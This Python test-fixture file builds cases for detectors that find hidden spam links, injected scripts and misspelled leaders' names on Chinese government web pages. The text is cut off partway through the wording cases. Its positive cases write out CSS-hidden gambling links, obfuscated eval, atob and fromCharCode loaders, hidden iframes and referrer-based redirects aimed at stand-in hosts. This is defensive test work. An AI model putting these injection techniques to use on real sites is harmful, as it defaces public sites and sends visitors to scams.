"""The pages of the third blind security batch: hostile blocks of the shapes hacked Chinese
government pages show, and the harmless furniture that must stay silent.

Written before its author read how the detectors decide (see tests/test_security_blind3.py).
A case names what a person would call a problem: `hidden` the targets of links hidden from
readers (暗链), `scripts` a mark of each piece of injected code (its host, or a fragment of the
inline code) that must be reported as 挂马, `wording` each wrong text (严重表述错误). `tolerated`
marks further injected pieces: a finding about them is right but not required (a script that
writes hidden links is injected code too).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from security_blind3_templates import Spots


@dataclass(frozen=True)
class Case:
    name: str
    tpl: str
    title: str
    spots: Spots = field(default_factory=Spots)
    date: str = "2026-11-20"
    body: str = ""
    hidden: tuple[str, ...] = ()
    scripts: tuple[str, ...] = ()
    wording: tuple[str, ...] = ()
    tolerated: tuple[str, ...] = ()
    control: str = ""  # the family this page is a control for ("" for a positive)


ARTICLE = (
    "<p>11月18日，县政府召开常务会议，传达学习省、市有关会议精神，研究部署冬季安全生产、"
    "森林防火和民生保障等工作。会议强调，要压紧压实各方责任，深入开展隐患排查整治，"
    "确保人民群众生命财产安全。</p><p>会议听取了全县重点项目建设进展情况汇报，要求各乡镇、"
    "各部门倒排工期、挂图作战，全力以赴推动项目早建成、早见效。</p>"
    '<p>附件：<a href="/zwgk/zcwj/202611/P020261118512345.pdf">重点项目清单.pdf</a></p>'
)


def links(pairs: list[tuple[str, str]], sep: str = " ") -> str:
    return sep.join(f'<a href="{href}" target="_blank">{text}</a>' for href, text in pairs)


GAMBLING = [
    ("http://www.pj5599.com/", "澳门葡京娱乐场"),
    ("http://www.tyc8877.com/", "太阳城集团"),
    ("https://www.wnsr6688.com/", "澳门威尼斯人"),
    ("http://www.bjpk10kj.com/", "北京pk10开奖直播"),
    ("http://www.js-k3.com/", "江苏快三走势图"),
    ("http://www.ssc2288.net/", "重庆时时彩计划"),
    ("http://www.qp6677.com/", "开元棋牌"),
    ("http://www.zr-live88.com/", "真人百家乐"),
    ("http://www.hg0088x.com/", "皇冠体育投注"),
    ("http://www.amxpj88.com/", "新葡京官网"),
    ("http://www.lhc49tk.com/", "六合彩图库"),
    ("http://www.ag-yule.cc/", "AG真人娱乐"),
]
LOANS = [
    ("http://www.kuaidai360.cn/", "无抵押网贷秒批"),
    ("http://www.daiyun120.com/", "代孕网"),
    ("http://www.bz5678.com/", "办证刻章"),
    ("http://www.fapiao668.com/", "代开发票"),
]


def g(*idx: int) -> list[tuple[str, str]]:
    return [GAMBLING[i] for i in idx]


def urls(pairs: list[tuple[str, str]]) -> tuple[str, ...]:
    return tuple(href for href, _ in pairs)


def _hidden_cases() -> list[Case]:
    c: list[Case] = []

    def add(name, tpl, spots, pairs, **kw):
        c.append(
            Case(name, tpl, "县政府召开常务会议", spots, body=ARTICLE, hidden=urls(pairs), **kw)
        )

    p = g(0, 1, 2, 9)
    add(
        "h_after_body_display_none",
        "trs",
        Spots(after_body=f'<div style="display:none">{links(p)}</div>'),
        p,
    )
    p = g(3, 4, 5)
    add(
        "h_before_end_abs_top",
        "hanweb",
        Spots(before_end=f'<div style="position:absolute;top:-999px;left:-999px">{links(p)}</div>'),
        p,
    )
    p = g(6, 7)
    add(
        "h_footer_span_none",
        "table",
        Spots(footer=f'<span style="DISPLAY: none">{links(p)}</span>'),
        p,
    )
    p = g(8, 10, 11)
    add(
        "h_marquee_tiny",
        "modern",
        Spots(
            before_end=f'<marquee height="1" width="1" scrollamount="3000" scrolldelay="1">{links(p)}</marquee>'
        ),
        p,
    )
    p = g(0, 5)
    add(
        "h_class_rule",
        "trs",
        Spots(
            head="<style>.yqlj_b{display:none}</style>",
            footer=f'<div class="yqlj_b">{links(p)}</div>',
        ),
        p,
    )
    p = g(1, 3, 6)
    add(
        "h_class_rule_offscreen",
        "modern",
        Spots(
            head='<style type="text/css">\n.k9x2 { position: absolute; left: -8000px; top: 0 }\n</style>',
            after_body=f'<div class="k9x2">{links(p)}</div>',
        ),
        p,
    )
    p = g(2, 4)
    written = links(p).replace('"', "'")
    add(
        "h_js_write_whole",
        "hanweb",
        Spots(
            after_body='<script type="text/javascript">document.write("<div style=\'position:absolute;left:-3000px;\'>'
            + written
            + '</div>");</script>'
        ),
        p,
        tolerated=("document.write",),
    )
    p = g(7, 8, 9)
    add(
        "h_js_write_wrap",
        "table",
        Spots(
            before_end="<script>document.write('<div style=\"display:none\">');</script>"
            + links(p)
            + "<script>document.write('</div>');</script>"
        ),
        p,
        tolerated=("document.write",),
    )
    p = g(10, 11)
    add(
        "h_text_indent",
        "trs",
        Spots(
            footer=f'<p style="text-indent:-9999px;overflow:hidden;white-space:nowrap">{links(p)}</p>'
        ),
        p,
    )
    p = g(0, 3)
    add(
        "h_margin_negative",
        "modern",
        Spots(after_body=f'<div style="margin-left:-12000px;float:left">{links(p)}</div>'),
        p,
    )
    p = g(4, 6)
    add(
        "h_height0_overflow",
        "hanweb",
        Spots(footer=f'<div style="height:0;overflow:hidden">{links(p)}</div>'),
        p,
    )
    p = g(1, 7)
    add(
        "h_opacity0",
        "trs",
        Spots(
            before_end=f'<div style="opacity:0;filter:alpha(opacity=0);position:absolute">{links(p)}</div>'
        ),
        p,
    )
    p = g(2, 5)
    add(
        "h_scale0",
        "modern",
        Spots(
            footer=f'<div style="transform:scale(0);-webkit-transform:scale(0)">{links(p)}</div>'
        ),
        p,
    )
    p = g(8, 9)
    add(
        "h_white_on_white_table",
        "table",
        Spots(article=f'<p><font color="#FFFFFF" style="font-size:12px">{links(p)}</font></p>'),
        p,
    )
    p = g(10, 0)
    add(
        "h_font_size_0",
        "hanweb",
        Spots(before_end=f'<div style="font-size:0px;line-height:0">{links(p)}</div>'),
        p,
    )
    p = g(3, 11)
    add(
        "h_visibility_hidden",
        "trs",
        Spots(after_body=f'<div style="visibility:hidden;position:absolute">{links(p)}</div>'),
        p,
    )
    p = g(6, 2)
    add("h_hidden_attribute", "modern", Spots(before_end=f"<div hidden>{links(p)}</div>"), p)
    p = g(5, 7)
    add(
        "h_clip_rect",
        "trs",
        Spots(
            footer=f'<div style="position:absolute;clip:rect(1px,1px,1px,1px);overflow:hidden">{links(p)}</div>'
        ),
        p,
    )
    p = g(9, 4)
    add(
        "h_script_hides_id",
        "hanweb",
        Spots(
            before_end=f'<div id="bd_tj">{links(p)}</div>'
            '<script>document.getElementById("bd_tj").style.display="none";</script>'
        ),
        p,
    )
    p = LOANS[:3]
    add(
        "h_loans_surrogacy",
        "table",
        Spots(after_body=f'<div style="position:absolute;top:-600px">{links(p)}</div>'),
        p,
    )
    p = [
        ("/uploads/soft/202405/pj/index.html", "澳门新葡京赌场"),
        ("/uploads/soft/202405/pj/bjl.html", "百家乐技巧"),
    ]
    add(
        "h_parasite_own_host",
        "trs",
        Spots(after_body=f'<div style="display:none">{links(p)}</div>'),
        p,
    )
    p = g(0, 1)
    add(
        "h_each_link_hidden",
        "modern",
        Spots(footer="".join(f'<a href="{h}" style="display:none">{t}</a>' for h, t in p)),
        p,
    )
    p = g(11, 3)
    add(
        "h_translate_offscreen",
        "trs",
        Spots(
            after_body=f'<div style="transform:translateX(-9999px);position:fixed">{links(p)}</div>'
        ),
        p,
    )
    p = [LOANS[3], GAMBLING[6]]
    add(
        "h_tiny_box_in_td",
        "table",
        Spots(article=f'<div style="width:1px;height:1px;overflow:hidden">{links(p)}</div>'),
        p,
    )
    p = g(8, 2)
    add(
        "h_white_text_declared_bg",
        "modern",
        Spots(
            head="<style>.ft-keys{color:#fff;font-size:12px}</style>",
            after_body=f'<div style="background:#fff"><p class="ft-keys">{links(p, "")}</p></div>',
        ),
        p,
    )
    p = g(10, 7)
    add(
        "h_right_offscreen",
        "hanweb",
        Spots(after_html=f'<div style="position:absolute;right:10000px">{links(p)}</div>'),
        p,
    )
    return c


def _script_cases() -> list[Case]:
    c: list[Case] = []

    def add(name, tpl, spots, marks, **kw):
        c.append(
            Case(
                name,
                tpl,
                "关于做好冬季安全生产工作的通知",
                spots,
                body=ARTICLE,
                scripts=marks,
                **kw,
            )
        )

    add(
        "s_lookalike_tongji",
        "trs",
        Spots(head='<script src="https://hm.baidu-tongji.cc/hm.js?8a7b6c"></script>'),
        ("hm.baidu-tongji.cc",),
    )
    add(
        "s_referrer_redirect",
        "hanweb",
        Spots(
            head="""<script type="text/javascript">
var ref = document.referrer.toLowerCase();
var ses = ["baidu.com", "sogou.com", "so.com", "sm.cn"];
for (var i = 0; i < ses.length; i++) {
  if (ref.indexOf(ses[i]) > -1) { window.location.href = "http://www.pj5599.com/?from=gov"; break; }
}
</script>"""
        ),
        ("ses.length",),
    )
    add(
        "s_packed_eval",
        "table",
        Spots(
            before_end="<script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};"
            "if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];"
            "e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
            "('0.1(\\'<2 3=\"4://5.6.7/8.9\"></2>\\');',10,10,'document|write|script|src|http|www|tyc8877|com|js|tj'.split('|'),0,{}))</script>"
        ),
        ("eval(function(p,a,c,k,e,d)",),
    )
    codes = ",".join(str(ord(ch)) for ch in '<script src="http://www.ssc2288.net/t.js"></script>')
    add(
        "s_fromcharcode_write",
        "modern",
        Spots(after_body=f"<script>document.write(String.fromCharCode({codes}));</script>"),
        ("String.fromCharCode(60",),
    )
    add(
        "s_atob_eval",
        "trs",
        Spots(
            before_end='<script>eval(atob("dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9J2h0dHA6Ly93d3cucXA2Njc3LmNvbS9hLmpzJztkb2N1bWVudC5ib2R5LmFwcGVuZENoaWxkKHMpOw=="));</script>'
        ),
        ("eval(atob(",),
    )
    add(
        "s_iframe_zero",
        "hanweb",
        Spots(
            before_end='<iframe src="http://www.zr-live88.com/index.html" width="0" height="0" frameborder="0"></iframe>'
        ),
        ("www.zr-live88.com",),
    )
    add(
        "s_iframe_display_none",
        "table",
        Spots(
            after_body='<iframe src="http://www.hg0088x.com/tj.html" style="display:none"></iframe>'
        ),
        ("www.hg0088x.com",),
    )
    add(
        "s_unescape_write",
        "modern",
        Spots(
            head='<script>document.write(unescape("%3C%73%63%72%69%70%74%20%73%72%63%3D%22%68%74%74%70%3A%2F%2F%6A%73%2E%61%6D%78%70%6A%38%38%2E%63%6F%6D%2F%31%2E%6A%73%22%3E%3C%2F%73%63%72%69%70%74%3E"));</script>'
        ),
        ("%3C%73%63%72%69%70%74",),
    )
    add(
        "s_hex_blob",
        "trs",
        Spots(
            before_end='<script>var _$=["\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x77\\x77\\x77\\x2e\\x6c\\x68\\x63\\x34\\x39\\x74\\x6b\\x2e\\x63\\x6f\\x6d","\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e","\\x68\\x72\\x65\\x66"];if(document[_$[1]]){window[_$[1]][_$[2]]=_$[0];}</script>'
        ),
        ("\\x68\\x74\\x74\\x70",),
    )
    add(
        "s_create_element",
        "hanweb",
        Spots(
            footer="<script>(function(){var s=document.createElement('script');s.type='text/javascript';"
            "s.src='https://js.tongji-cnzz.top/c.js?v='+Math.random();var h=document.getElementsByTagName('head')[0];h.appendChild(s);})();</script>"
        ),
        ("js.tongji-cnzz.top",),
    )
    add(
        "s_cdn_lookalike",
        "modern",
        Spots(
            head='<script src="https://cdn.bootcdn.net.jquery-cdn.org/ajax/libs/jquery/3.6.4/jquery.min.js"></script>'
        ),
        ("cdn.bootcdn.net.jquery-cdn.org",),
    )
    add(
        "s_ua_check_title",
        "table",
        Spots(
            head="""<script>
if (/baiduspider|sogou|360spider|yisouspider/i.test(navigator.userAgent)) {
  document.title = "澳门葡京赌场_北京赛车pk10_时时彩平台";
}
</script>"""
        ),
        ("360spider",),
    )
    add(
        "s_meta_refresh",
        "trs",
        Spots(head='<meta http-equiv="refresh" content="0;url=http://www.amxpj88.com/">'),
        ("www.amxpj88.com",),
    )
    add(
        "s_settimeout_redirect",
        "hanweb",
        Spots(
            before_end="<script>setTimeout(function(){window.location.href='http://www.ag-yule.cc/';},2000);</script>"
        ),
        ("www.ag-yule.cc",),
    )
    add(
        "s_top_location_replace_ref",
        "modern",
        Spots(
            before_end="""<script>
(function(){var r=document.referrer;
if(r.indexOf("baidu")>0||r.indexOf("sogou")>0||r.indexOf("m.sm.cn")>0){top.location.replace("https://www.wnsr6688.com/");}})();
</script>"""
        ),
        ("www.wnsr6688.com",),
    )
    add(
        "s_after_html_script",
        "table",
        Spots(
            after_html='<script type="text/javascript" src="http://www.bjpk10kj.com/js/tj.js"></script>'
        ),
        ("www.bjpk10kj.com",),
    )
    add(
        "s_protocol_relative",
        "trs",
        Spots(
            footer='<script language="javascript" charset="gb2312" src="//js.vip-caipiao.com/tj.js"></script>'
        ),
        ("js.vip-caipiao.com",),
    )
    add(
        "s_obfuscator",
        "modern",
        Spots(
            before_end="<script>var _0x4e2a=['\\x72\\x65\\x66\\x65\\x72\\x72\\x65\\x72','\\x69\\x6e\\x64\\x65\\x78\\x4f\\x66'];"
            "(function(_0x1b7c,_0x4e2a3f){var _0x5d1e=function(_0x2c9a){while(--_0x2c9a){_0x1b7c['push'](_0x1b7c['shift']());}};_0x5d1e(++_0x4e2a3f);}(_0x4e2a,0x1f3));"
            "var _0x5d1e=function(_0x1b7c,_0x4e2a3f){_0x1b7c=_0x1b7c-0x0;var _0x2c9a=_0x4e2a[_0x1b7c];return _0x2c9a;};</script>"
        ),
        ("_0x4e2a",),
    )
    codes = ",".join(str(ord(ch)) for ch in "window.location='http://www.js-k3.com/'")
    add(
        "s_eval_fromcharcode",
        "hanweb",
        Spots(head=f"<script>eval(String.fromCharCode({codes}))</script>"),
        ("eval(String.fromCharCode",),
    )
    add(
        "s_iframe_tiny_hidden",
        "trs",
        Spots(
            after_body='<iframe src="https://www.lhc49tk.com/" style="visibility:hidden;width:1px;height:1px" scrolling="no"></iframe>'
        ),
        ("www.lhc49tk.com",),
    )
    add(
        "s_cloned_tongji",
        "table",
        Spots(
            before_end="""<script>
var _hmt = _hmt || [];
(function() {
  var hm = document.createElement("script");
  hm.src = "https://hm.baidu.com.tongji8.la/hm.js?f1e2d3c4";
  var s = document.getElementsByTagName("script")[0];
  s.parentNode.insertBefore(hm, s);
})();
</script>"""
        ),
        ("hm.baidu.com.tongji8.la",),
    )
    add(
        "s_split_write",
        "modern",
        Spots(
            footer="<script>document.write('<scr'+'ipt src=\"http://'+'www.bc'+'88.com/t.js\"></scr'+'ipt>');</script>"
        ),
        ("www.bc",),
    )
    add(
        "s_function_atob",
        "hanweb",
        Spots(
            after_html='<script>new Function(atob("d2luZG93LmxvY2F0aW9uLmhyZWY9Imh0dHA6Ly93d3cucGo1NTk5LmNvbS8iOw=="))();</script>'
        ),
        ("atob(",),
    )
    add(
        "s_gov_lookalike_host",
        "trs",
        Spots(
            head='<script type="text/javascript" src="http://www.gov-cn.cc/js/common.js"></script>'
        ),
        ("www.gov-cn.cc",),
    )
    return c


def _page_controls() -> list[Case]:
    c: list[Case] = []

    def add(name, tpl, spots, control="hidden", title="县政府召开常务会议", **kw):
        c.append(Case(name, tpl, title, spots, body=ARTICLE, control=control, **kw))

    add("c_home_like", "trs", Spots(), control="both")
    add(
        "c_tabs_gov_links",
        "hanweb",
        Spots(
            article="""<div class="tab"><span>部委网站</span><span>省市网站</span></div>
<div class="tab_con on"><a href="http://www.gov.cn/">中国政府网</a> <a href="http://www.mofcom.gov.cn/">商务部</a></div>
<div class="tab_con"><a href="http://www.jiangxi.gov.cn/">江西省人民政府</a> <a href="http://www.ganzhou.gov.cn/">赣州市人民政府</a></div>"""
        ),
    )
    add(
        "c_popup_friend_links",
        "table",
        Spots(
            footer="""<div id="yqlj" style="display:none;position:absolute">
<a href="http://www.shanxi.gov.cn/">山西省人民政府</a> <a href="http://www.jcgov.gov.cn/">晋城市人民政府</a>
<a href="http://www.people.com.cn/">人民网</a> <a href="http://www.xinhuanet.com/">新华网</a></div>
<a href="javascript:void(0)" onclick="document.getElementById('yqlj').style.display='block'">友情链接</a>"""
        ),
    )
    add(
        "c_mobile_menu",
        "trs",
        Spots(
            after_body="""<div class="mobile-nav" style="display:none">
<a href="/">首页</a><a href="/zwgk/">政务公开</a><a href="/zwfw/">政务服务</a><a href="/hdjl/">互动交流</a></div>"""
        ),
    )
    add(
        "c_skip_links",
        "modern",
        Spots(
            after_body="""<a href="#content" style="position:absolute;left:-9999px;top:auto;width:1px;height:1px;overflow:hidden">跳过导航</a>
<a href="/wza/help.html" style="position:absolute;left:-9999px">无障碍说明</a>"""
        ),
    )
    add(
        "c_wza_toolbar",
        "hanweb",
        Spots(
            after_body="""<div id="wza_toolbar" style="display:none">
<a href="javascript:void(0)">放大</a><a href="javascript:void(0)">缩小</a><a href="javascript:void(0)">高对比度</a>
<a href="https://wza.jiangxi.gov.cn/help.html">使用帮助</a></div>
<script src="https://wza.jiangxi.gov.cn/wza/wza.js"></script>"""
        ),
        control="both",
    )
    add(
        "c_back_to_top",
        "table",
        Spots(
            before_end="""<div id="goTop" style="display:none;position:fixed;right:10px;bottom:50px">
<a href="#">返回顶部</a></div>
<script>window.onscroll=function(){document.getElementById('goTop').style.display=(document.documentElement.scrollTop>300)?'block':'none';};</script>"""
        ),
    )
    add(
        "c_print_only",
        "trs",
        Spots(
            footer="""<div class="print-only" style="display:none">
<a href="/">灵丘县人民政府网站</a> 地址：http://www.lingqiu.gov.cn/</div>"""
        ),
    )
    add(
        "c_template_block",
        "modern",
        Spots(
            before_end="""<div id="list-tpl" style="display:none">
<li><a href="/zwdt/{{id}}.html">{{title}}</a><span>{{date}}</span></li></div>
<script type="text/template" id="item"><a href="/zfxxgk/{{id}}.html">{{title}}</a></script>"""
        ),
    )
    add(
        "c_share_panel",
        "hanweb",
        Spots(
            footer="""<div class="bshare-custom" style="display:none">
<a title="分享到新浪微博" class="bshare-sinaminiblog" href="http://www.bshare.cn/share?url=x"></a>
<a title="分享到QQ空间" class="bshare-qzone" href="http://www.jiathis.com/send/?webid=qzone"></a>
<a href="http://service.weibo.com/share/share.php?url=x">微博</a></div>
<script type="text/javascript" charset="utf-8" src="http://static.bshare.cn/b/buttonLite.js#style=-1&amp;uuid=&amp;pophcol=1&amp;lang=zh"></script>
<script type="text/javascript" src="http://v3.jiathis.com/code/jia.js?uid=1346888" charset="utf-8"></script>"""
        ),
        control="both",
    )
    add(
        "c_qr_popup",
        "trs",
        Spots(
            footer="""<div class="wx-pop" style="display:none"><img src="/images/wx.jpg" alt="微信">
<a href="https://weibo.com/lingqiufabu">灵丘发布微博</a> <a href="https://mp.weixin.qq.com/s/Lq8xPzA">灵丘发布</a>
<a href="https://www.douyin.com/user/MS4wLjABAAAA">抖音号</a></div>"""
        ),
    )
    add(
        "c_anti_gambling_tab",
        "modern",
        Spots(
            article="""<div class="tab-pane"><ul>
<li><a href="/zwdt/202611/t20261112_1150.html">我县开展打击整治跨境赌博专项行动</a></li>
<li><a href="/zwdt/202611/t20261105_1133.html">警惕网络赌博、“网贷”陷阱：公安提醒</a></li>
<li><a href="/zwdt/202610/t20261028_1101.html">严厉打击非法代孕、办假证等违法犯罪</a></li></ul></div>"""
        ),
    )
    add(
        "c_anti_gambling_article",
        "table",
        Spots(
            article="""<p>近期，县公安局破获一起利用境外赌博网站开设
“百家乐”“时时彩”“北京赛车pk10”等赌局的案件，涉案资金逾千万元。警方提醒：所谓“澳门葡京”“太阳城”
“威尼斯人”等网络赌场均为诈骗陷阱，切勿轻信。详见<a href="/zwdt/202610/t20261014_1088.html">典型案例通报</a>。</p>"""
        ),
        control="both",
        title="远离网络赌博 警惕百家乐、时时彩骗局",
    )
    add(
        "c_lang_and_old",
        "hanweb",
        Spots(
            after_body="""<div class="lang" style="display:none">
<a href="http://en.xinfeng.gov.cn/">English</a> <a href="http://old.xinfeng.gov.cn/">旧版网站</a></div>"""
        ),
    )
    add(
        "c_legit_marquee",
        "trs",
        Spots(
            article="""<marquee direction="left" scrollamount="4" width="100%" height="30">
<a href="/zwgk/tzgg/202611/t20261125_1203.html">关于2026年度城乡居民医保集中缴费的通知</a>
<a href="/zwgk/tzgg/202611/t20261122_1195.html">县自然资源局国有建设用地使用权挂牌出让公告</a></marquee>"""
        ),
    )
    add(
        "c_white_on_blue_footer",
        "modern",
        Spots(
            footer="""<div style="background:#1a4a8f"><p style="color:#fff">
<a href="https://www.12377.cn/" style="color:#fff">违法和不良信息举报</a> <a href="https://www.12345hot.cn/" style="color:#ffffff">12345热线</a></p></div>"""
        ),
    )
    add(
        "c_hidden_related_links",
        "trs",
        Spots(
            footer="""<div class="xglj-list" style="display:none">
<a href="https://www.12306.cn/">中国铁路12306</a> <a href="https://www.chsi.com.cn/">学信网</a>
<a href="https://www.nmc.cn/">中央气象台</a> <a href="http://www.icbc.com.cn/">工商银行网上银行</a></div>
<a href="javascript:;" onclick="$('.xglj-list').toggle()">相关链接</a>"""
        ),
    )
    add(
        "c_accordion_files",
        "hanweb",
        Spots(
            article="""<dl class="faq"><dt>办事所需材料</dt>
<dd style="display:none"><a href="/module/download/downfile.jsp?classid=0&amp;filename=a.doc">申请表.doc</a></dd>
<dt>办理流程</dt><dd style="display:none"><a href="/col/col1022/art/2026/art_88.html">流程图</a></dd></dl>"""
        ),
    )
    add(
        "c_select_friend_links",
        "table",
        Spots(
            footer="""<select onchange="window.open(this.options[this.selectedIndex].value)">
<option>—— 市县网站 ——</option><option value="http://www.jcgov.gov.cn/">晋城市</option>
<option value="http://www.yangcheng.gov.cn/">阳城县</option></select>"""
        ),
    )
    add(
        "c_search_suggest",
        "modern",
        Spots(
            after_body="""<div class="search-suggest" style="display:none"><ul>
<li><a href="/search?q=社保">社保缴费</a></li><li><a href="/search?q=公积金">公积金提取</a></li></ul></div>"""
        ),
    )
    add(
        "c_white_text_dark_bg_rule",
        "trs",
        Spots(
            head="<style>.topbar{background:#0b3d7a} .topbar a{color:#fff}</style>",
            after_body='<div class="topbar"><a href="http://www.sxzwfw.gov.cn/">山西政务服务网</a> <a href="https://www.12388.gov.cn/">12388举报</a></div>',
        ),
    )
    add(
        "c_collapsed_zero_height_nav",
        "hanweb",
        Spots(
            after_body="""<div class="subnav" style="height:0;overflow:hidden;transition:height .3s">
<a href="/col/col1011/index.html">通知公告</a> <a href="/col/col1012/index.html">政策解读</a></div>"""
        ),
    )
    return c


def _script_controls() -> list[Case]:
    c: list[Case] = []

    def add(name, tpl, spots, **kw):
        c.append(
            Case(
                name,
                tpl,
                "关于做好冬季安全生产工作的通知",
                spots,
                body=ARTICLE,
                control="script",
                **kw,
            )
        )

    add(
        "k_jquery_cdns",
        "trs",
        Spots(
            head="""<script src="https://libs.baidu.com/jquery/1.9.1/jquery.min.js"></script>
<script src="https://cdn.staticfile.org/layer/3.5.1/layer.js"></script>
<script src="https://code.jquery.com/jquery-migrate-1.4.1.min.js"></script>
<script src="https://ajax.aspnetcdn.com/ajax/jquery.validate/1.19.3/jquery.validate.min.js"></script>
<script src="https://cdn.jsdelivr.net/npm/echarts@5.4.3/dist/echarts.min.js"></script>"""
        ),
    )
    add(
        "k_baidu_share",
        "hanweb",
        Spots(
            footer="""<div class="bdsharebuttonbox"><a href="#" class="bds_more" data-cmd="more"></a></div>
<script>window._bd_share_config={"common":{"bdSnsKey":{},"bdText":"","bdMini":"2","bdPic":"","bdStyle":"0","bdSize":"16"},"share":{}};with(document)0[(getElementsByTagName('head')[0]||body).appendChild(createElement('script')).src='http://bdimg.share.baidu.com/static/api/js/share.js?v=89860593.js?cdnversion='+~(-new Date()/36e5)];</script>"""
        ),
    )
    add(
        "k_cnzz_new",
        "table",
        Spots(
            before_end="""<script type="text/javascript">var cnzz_protocol = (("https:" == document.location.protocol) ? "https://" : "http://");document.write(unescape("%3Cspan id='cnzz_stat_icon_1280012345'%3E%3C/span%3E%3Cscript src='" + cnzz_protocol + "v1.cnzz.com/z_stat.php%3Fid%3D1280012345%26show%3Dpic1' type='text/javascript'%3E%3C/script%3E"));</script>"""
        ),
    )
    add(
        "k_51la_sdk",
        "modern",
        Spots(
            before_end="""<script charset="UTF-8" id="LA_COLLECT" src="//sdk.51.la/js-sdk-pro.min.js"></script>
<script>LA.init({id:"3GkLmN8pQrStUv",ck:"3GkLmN8pQrStUv"})</script>"""
        ),
    )
    add(
        "k_weather_iframe",
        "trs",
        Spots(
            after_body="""<iframe width="300" height="25" frameborder="0" scrolling="no" hspace="0" src="https://i.tianqi.com/?c=code&amp;id=34&amp;icon=1&amp;site=12"></iframe>"""
        ),
    )
    add(
        "k_video_iframe",
        "modern",
        Spots(
            article="""<iframe frameborder="0" width="640" height="360" src="https://v.qq.com/txp/iframe/player.html?vid=m3456abcd12" allowfullscreen="true"></iframe>"""
        ),
    )
    add(
        "k_baidu_map",
        "hanweb",
        Spots(
            head="""<script type="text/javascript" src="https://api.map.baidu.com/api?v=3.0&amp;ak=Gx7aKzP2mNq"></script>""",
            article="""<div id="map" style="width:600px;height:300px"></div><script>var map=new BMap.Map("map");map.centerAndZoom(new BMap.Point(115.0,25.4),15);</script>""",
        ),
    )
    add(
        "k_mobile_redirect_own",
        "table",
        Spots(
            head="""<script type="text/javascript">
if (/Android|webOS|iPhone|iPod|BlackBerry/i.test(navigator.userAgent)) {
  window.location.href = "http://m.qinshui.gov.cn/";
}
</script>"""
        ),
    )
    add(
        "k_json_eval",
        "trs",
        Spots(
            before_end="""<script>
$.get('/interface/hits.jsp?id=5678', function(txt){ var data = eval('(' + txt + ')'); $('#hits').text(data.count); });
</script>"""
        ),
    )
    add(
        "k_back_button_referrer",
        "modern",
        Spots(
            article="""<a href="javascript:void(0)" onclick="if(document.referrer){history.back();}else{window.location.href='/';}">返回</a>"""
        ),
    )
    codes = ",".join(str(ord(ch)) for ch in "lqxzf@163.com")
    add(
        "k_email_fromcharcode",
        "hanweb",
        Spots(
            article=f"""<p>联系邮箱：<script>document.write(String.fromCharCode({codes}));</script></p>"""
        ),
    )
    add(
        "k_hidden_own_iframe",
        "table",
        Spots(
            before_end="""<iframe name="hiddenFrame" id="hiddenFrame" style="display:none" src="/interface/keepalive.asp"></iframe>
<iframe name="dl" width="0" height="0" frameborder="0" src="about:blank"></iframe>"""
        ),
    )
    add(
        "k_404_redirect_home",
        "trs",
        Spots(
            before_end="""<script>setTimeout(function(){ location.href = "/"; }, 5000);</script>"""
        ),
    )
    add(
        "k_wechat_captcha",
        "modern",
        Spots(head="""<script src="https://ssl.captcha.qq.com/TCaptcha.js"></script>"""),
    )
    add(
        "k_gov_cn_widget",
        "hanweb",
        Spots(
            footer="""<script type="text/javascript" src="https://www.gov.cn/govweb/xhtml/2016gov/js/jquery.min.js"></script>
<iframe src="https://www.jiangxi.gov.cn/module/web/jpage/dataproxy.jsp" width="0" height="0" style="display:none"></iframe>"""
        ),
    )
    add(
        "k_base64_image_and_font",
        "table",
        Spots(
            article="""<img alt="二维码" src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==">"""
        ),
    )
    add(
        "k_minified_own_lib",
        "trs",
        Spots(
            before_end="""<script>!function(e,t){"object"==typeof module&&"object"==typeof module.exports?module.exports=e.document?t(e,!0):function(e){if(!e.document)throw new Error("requires a window");return t(e)}:t(e)}("undefined"!=typeof window?window:this,function(C,e){var t=[],r=Object.getPrototypeOf,s=t.slice,g=t.flat?function(e){return t.flat.call(e)}:function(e){return t.concat.apply([],e)},u=t.push,i=t.indexOf,n={},o=n.toString,v=n.hasOwnProperty;return {}});</script>"""
        ),
    )
    add(
        "k_zfwzgl_gov",
        "modern",
        Spots(
            footer="""<script id="_jiucuo_" sitecode="5301230004" src="https://zfwzgl.www.gov.cn/exposure/jiucuo.js"></script>"""
        ),
    )
    add(
        "k_wza_cniil",
        "hanweb",
        Spots(
            head="""<script defer async type="text/javascript" src="https://www.cniil.com/wza/aria.js?appid=b8e7c6d5a4f3e2d1"></script>"""
        ),
    )
    add(
        "k_search_referrer_highlight",
        "table",
        Spots(
            before_end="""<script>
var r = document.referrer; var m = r.match(/[?&](wd|word|q)=([^&]*)/);
if (m) { document.getElementById('kw').innerHTML = '您搜索的是：' + decodeURIComponent(m[2]); }
</script><span id="kw"></span>"""
        ),
    )
    add(
        "k_hanweb_visit_and_vc",
        "hanweb",
        Spots(
            before_end="""<script type="text/javascript" src="/script/0/1809071609578906.js"></script>
<script language="javascript" src="/module/visitcount/visit.jsp?type=2&amp;i_webid=1&amp;i_columnid=1011"></script>"""
        ),
    )
    return c


def _wording_cases() -> list[Case]:
    c: list[Case] = []

    def add(name, tpl, title, date, text, wrong=(), control=""):
        body = "".join(f"<p>{p}</p>" for p in text.split("\n") if p.strip())
        c.append(Case(name, tpl, title, date=date, body=body, wording=wrong, control=control))

    add(
        "w_lookalike_xi",
        "trs",
        "县委理论学习中心组开展专题学习",
        "2026-06-12",
        "6月11日，县委理论学习中心组举行集体学习，深入学习贯彻习近乎总书记关于安全生产的重要论述。\n"
        "会议要求，全县各级党组织要把学习成果转化为推动工作的实际成效。",
        ("习近乎",),
    )
    add(
        "w_homophone_xi",
        "hanweb",
        "我县召开干部大会",
        "2026-03-05",
        "会议强调，要坚持以习进平新时代中国特色社会主义思想为指导，全面贯彻党的二十大精神。",
        ("习进平",),
    )
    add(
        "w_premier_homophone",
        "table",
        "国务院常务会议精神传达",
        "2026-04-18",
